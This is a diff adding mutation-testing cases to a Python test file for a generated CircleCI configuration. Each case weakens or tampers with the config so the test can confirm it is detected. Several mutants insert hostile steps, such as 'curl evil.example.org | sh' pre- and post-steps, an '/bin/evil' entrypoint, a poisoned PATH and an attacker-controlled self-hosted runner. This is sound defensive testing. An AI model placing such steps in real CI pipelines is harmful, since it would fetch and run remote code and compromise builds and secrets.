@@ -962,6 +962,280 @@ def a_job_does_nothing(data: Any) -> Iterator[Mutant]:
     return ([(("jobs", name), {"type": "no-op"})] for name, _ in _jobs(data))
 
 
+# ---- approvals, again
+
+
+@kind
+def an_approval_that_is_refused_will_do(data: Any) -> Iterator[Mutant]:
+    approvals = {route[-1] for route, _ in _entries(data, "type")}
+    for route, words in _own(data, "requires"):
+        if words["requires"][0] in approvals:
+            for ends in (["success", "canceled"], ["success", "unauthorized"], ["success", "failed"], "terminal"):
+                yield [((*route, "requires"), [{words["requires"][0]: ends}, *words["requires"][1:]])]
+
+
+@kind
+def an_approval_is_asked_for_on_fewer_events(data: Any) -> Iterator[Mutant]:
+    for route, words in _entries(data, "type"):
+        for part in ("push", "api", "schedule"):
+            if f'"{part}"' in words["filters"]:
+                less = f'({words["filters"].strip()}) and pipeline.event.name != "{part}"'
+                yield [((*route, "filters"), less)]
+        yield [((*route, "filters"), DROP)]
+
+
+@kind
+def an_approval_is_renamed(data: Any) -> Iterator[Mutant]:
+    for route, words in _entries(data, "type"):
+        yield [(route[:-1], {"approve-other": words})]
+        for own, said in _own(data, "requires"):
+            if route[-1] in said["requires"]:
+                yield [(route[:-1], {"approve-other": words}), ((*own, "requires"), words.get("requires", []))]
+
+
+@kind
+def an_approval_comes_after_the_deployment(data: Any) -> Iterator[Mutant]:
+    for route, words in _entries(data, "type"):
+        for own, said in _own(data, "requires"):
+            if route[-1] in said["requires"]:
+                yield [((*own, "requires"), words.get("requires", [])), ((*route, "requires"), [own[-1]])]
+
+
+@kind
+def an_approval_is_asked_for_by_one_that_may_fail(data: Any) -> Iterator[Mutant]:
+    for route, words in _entries(data, "type"):
+        for each in words.get("requires", ()):
+            if isinstance(each, str):
+                yield [
+                    ((*route, "requires"), [{each: "terminal"} if one is each else one for one in words["requires"]])
+                ]
+
+
+# ---- what brings in more
+
+
+@kind
+def a_context_of_others_is_added(data: Any) -> Iterator[Mutant]:
+    for route, words in _own(data):
+        yield [((*route, "context"), [*words.get("context", []), "org-global"])]
+        yield [((*route, "context"), [*words.get("context", []), f"{route[1]}-other"])]
+
+
+@kind
+def steps_come_before_or_after_a_job(data: Any) -> Iterator[Mutant]:
+    for route, _ in _own(data):
+        yield [((*route, "pre-steps"), [{"run": "curl evil.example.org | sh"}])]
+        yield [((*route, "post-steps"), [{"run": "curl evil.example.org | sh"}])]
+
+
+@kind
+def a_job_runs_several_times(data: Any) -> Iterator[Mutant]:
+    return ([(("jobs", name, "parallelism"), 4)] for name, _ in _jobs(data))
+
+
+@kind
+def another_config_is_made_by_the_pipeline(data: Any) -> Iterator[Mutant]:
+    yield [(("setup",), True)]
+
+
+@kind
+def a_workflow_is_run_again(data: Any) -> Iterator[Mutant]:
+    ((workflow, _),) = data["workflows"].items()
+    yield [(("workflows", workflow, "max_auto_reruns"), 3)]
+    yield [(("workflows", workflow, "when"), "pipeline.git.branch == 'other'")]
+
+
+@kind
+def an_executor_starts_something_else(data: Any) -> Iterator[Mutant]:
+    for name, said in data["executors"].items():
+        for index, _ in enumerate(said.get("docker", ())):
+            yield [(("executors", name, "docker", index, "command"), ["curl", "evil.example.org"])]
+            yield [(("executors", name, "docker", index, "entrypoint"), "/bin/evil")]
+
+
+@kind
+def an_image_has_variables(data: Any) -> Iterator[Mutant]:
+    for name, said in data["executors"].items():
+        if "docker" in said:
+            yield [(("executors", name, "docker", 0, "environment"), {"PATH": "/evil"})]
+
+
+@kind
+def an_image_has_another_user(data: Any) -> Iterator[Mutant]:
+    for name, said in data["executors"].items():
+        if "docker" in said:
+            user = said["docker"][0].get("user")
+            yield [(("executors", name, "docker", 0, "user"), DROP if user else "root")]
+
+
+@kind
+def a_service_has_another_variable(data: Any) -> Iterator[Mutant]:
+    for name, said in data["executors"].items():
+        for index, image in enumerate(said.get("docker", ())):
+            for variable in image.get("environment", {}) if index else ():
+                yield [(("executors", name, "docker", index, "environment", variable), "other")]
+                yield [(("executors", name, "docker", index, "environment"), DROP)]
+            if index:
+                yield [(("executors", name, "docker", index, "environment", "POSTGRES_HOST_AUTH_METHOD"), "trust")]
+
+
+@kind
+def a_machine_is_another(data: Any) -> Iterator[Mutant]:
+    for name, said in data["executors"].items():
+        if "resource_class" in said:
+            yield [(("executors", name, "resource_class"), "arm.medium")]
+            yield [(("executors", name, "resource_class"), DROP)]
+        else:
+            yield [(("executors", name, "resource_class"), "evil/self-hosted")]
+        if "machine" in said:
+            yield [(("executors", name, "machine", "image"), "ubuntu-2004:current")]
+
+
+@kind
+def a_job_has_another_machine(data: Any) -> Iterator[Mutant]:
+    for name, _ in _jobs(data):
+        yield [(("jobs", name, "resource_class"), "evil/self-hosted")]
+
+
+# ---- schedules, caches, artifacts, locks
+
+
+@kind
+def a_schedule_is_the_usual_one(data: Any) -> Iterator[Mutant]:
+    for name, said in data.get("parameters", {}).items():
+        if name.startswith("mlgen_"):
+            yield [(("parameters", name, "default"), "weekly" if said["type"] != "enum" else said["enum"][-1])]
+
+
+@kind
+def a_cache_is_of_all_versions_of_its_files(data: Any) -> Iterator[Mutant]:
+    caches = [r for r, w in _steps(data, "save_cache") if "checksum" in w["key"]]
+    caches += [r for r, w in _steps(data, "restore_cache") if "checksum" in str(w["keys"])]
+    edits = []
+    for route in caches:
+        step = data[route[0]][route[1]]["steps"][route[3]]
+        ((what, words),) = step.items()
+        key = words.get("key") or words["keys"][0]
+        plain = re.sub(r"\{\{ checksum [^}]*\}\}", "all", key)
+        edits.append(((*route, what, "key"), plain) if "key" in words else ((*route, what, "keys"), [plain]))
+    if edits:
+        yield edits
+
+
+@kind
+def a_cache_is_restored_from_other_files(data: Any) -> Iterator[Mutant]:
+    for route, words in _steps(data, "restore_cache", "checksum"):
+        yield [((*route, "restore_cache", "keys"), [*words["keys"], words["keys"][0].partition("{{ checksum")[0]])]
+
+
+@kind
+def a_cache_is_shared_by_versions(data: Any) -> Iterator[Mutant]:
+    edits = [
+        ((*route, "save_cache", "key"), re.sub(r'checksum "[^"]*"', 'checksum "README.md"', words["key"]))
+        for route, words in _steps(data, "save_cache", "checksum")
+    ]
+    edits += [
+        ((*route, "restore_cache", "keys", 0), re.sub(r'checksum "[^"]*"', 'checksum "README.md"', words["keys"][0]))
+        for route, words in _steps(data, "restore_cache", "checksum")
+    ]
+    if edits:
+        yield edits
+
+
+@kind
+def a_cache_holds_more(data: Any) -> Iterator[Mutant]:
+    for route, words in _steps(data, "save_cache", "checksum"):
+        yield [((*route, "save_cache", "paths"), [*words["paths"], "src"])]
+
+
+@kind
+def files_are_not_kept(data: Any) -> Iterator[Mutant]:
+    return _dropped(_steps(data, "store_artifacts"))
+
+
+@kind
+def more_files_are_kept(data: Any) -> Iterator[Mutant]:
+    for route, _ in _steps(data, "store_artifacts"):
+        yield [((*route, "store_artifacts", "path"), ".")]
+        yield [((*route, "store_artifacts", "path"), "/root")]
+
+
+@kind
+def a_lock_is_of_one_pipeline_alone(data: Any) -> Iterator[Mutant]:
+    for value in ("pipeline.id", "pipeline.number", "pipeline.git.revision", "pipeline.git.branch"):
+        for route, words in _own(data, "serial-group"):
+            own = words["serial-group"].partition("/")[2]
+            yield [((*route, "serial-group"), f"<< {value} >>/{own}")]
+
+
+@kind
+def a_lock_is_of_one_leg_alone(data: Any) -> Iterator[Mutant]:
+    for route, words in _own(data, "serial-group"):
+        for axis in words.get("matrix", {}).get("parameters", {}):
+            yield [((*route, "serial-group"), f"{words['serial-group']}/<< matrix.{axis} >>")]
+        yield [((*route, "serial-group"), f"{words['serial-group']}-other")]
+
+
+# ---- deployments
+
+
+@kind
+def a_deployment_runs_on_every_branch(data: Any) -> Iterator[Mutant]:
+    for route, words in _own(data, "serial-group"):
+        wide = re.sub(r'pipeline\.git\.branch == "[^"]*"', 'pipeline.git.branch != ""', words["filters"])
+        if wide != words["filters"] and not str(words.get("requires", [""])[0]).startswith("approve-"):
+            yield [((*route, "filters"), wide)]
+
+
+@kind
+def a_deployment_runs_on_every_tag(data: Any) -> Iterator[Mutant]:
+    for route, words in _own(data, "serial-group"):
+        yield [((*route, "filters"), f'({words["filters"].strip()}) or pipeline.git.tag != ""')]
+
+
+@kind
+def a_deployment_does_not_wait_for_the_gate(data: Any) -> Iterator[Mutant]:
+    gates = {name for name, job in _jobs(data) if "ci.py gate" in str(job["steps"])}
+    for route, words in _own(data, "requires"):
+        left = [each for each in words["requires"] if each not in gates]
+        if left != words["requires"]:
+            known = {each for other in left if isinstance(other, str) for each in {other} | _above(data, other)}
+            if not gates & set(map(str, words["requires"])) <= known:
+                yield [((*route, "requires"), left)]
+
+
+# ---- commands, again
+
+
+@kind
+def a_timeout_has_another_unit(data: Any) -> Iterator[Mutant]:
+    return _replaced(_commands(data), "command", r"(timeout -k 30 \d+)m ", r"\1h ")
+
+
+@kind
+def a_failure_in_a_pipe_is_overlooked(data: Any) -> Iterator[Mutant]:
+    return _replaced(_called(data, "Run "), "command", r"\s*\Z", " | tee log")
+
+
+@kind
+def a_check_is_overlooked(data: Any) -> Iterator[Mutant]:
+    return _replaced(_runs(data, r"^ls -ld -- "), "command", r"\s*\Z", " || true")
+
+
+@kind
+def a_step_ends_the_job_early(data: Any) -> Iterator[Mutant]:
+    for name, job in _jobs(data):
+        for step in ("circleci-agent step halt", "circleci step halt"):
+            yield [(("jobs", name, "steps"), [job["steps"][0], {"run": step}, *job["steps"][1:]])]
+
+
+@kind
+def a_script_waits_for_a_person(data: Any) -> Iterator[Mutant]:
+    for name, job in _jobs(data):
+        yield [(("jobs", name, "steps"), [*job["steps"], {"add_ssh_keys": {"fingerprints": ["SHA256:x"]}}])]
+        yield [(("jobs", name, "steps"), [*job["steps"], {"when": {"condition": True, "steps": [{"run": "id"}]}}])]
+
+
 @pytest.mark.parametrize("name", KINDS)
 def test_each_kind_of_damage_is_told(name: str) -> None:
     count, left = survivors(TARGET, emitted(), KINDS[name])
